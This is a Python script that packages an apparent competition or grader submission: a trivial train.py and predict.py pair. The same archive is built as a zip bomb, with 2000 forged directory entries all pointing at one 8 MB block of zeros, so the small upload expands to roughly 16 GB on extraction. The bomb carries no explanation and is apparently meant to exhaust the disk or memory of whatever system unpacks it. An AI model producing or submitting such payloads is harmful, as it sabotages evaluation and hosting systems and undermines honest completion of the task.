import io
import sys
import zipfile

TRAIN = 'open("/model/threshold", "w").write("0")\n'
PREDICT = """
import csv
threshold = float(open("/model/threshold").read())
with open("/input/test.csv") as test, open("/output/submission.csv", "w") as out:
    out.write("id,target\\n")
    for row in csv.DictReader(test):
        out.write(f"{row['id']},{int(float(row['x']) > threshold)}\\n")
"""
upload = io.BytesIO()
with zipfile.ZipFile(upload, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("train.py", TRAIN)
    archive.writestr("predict.py", PREDICT)

    archive.writestr("zeros.bin", bytes(8 << 20))
    kernel = archive.infolist()[-1]
    for number in range(2000):
        again = zipfile.ZipInfo(f"zeros{number}.bin")
        for name in (
            "compress_type",
            "CRC",
            "compress_size",
            "file_size",
            "header_offset",
            "external_attr",
            "flag_bits",
        ):
            setattr(again, name, getattr(kernel, name))
        archive.filelist.append(again)
        archive.NameToInfo[again.filename] = again

sys.stdout.buffer.write(upload.getvalue())
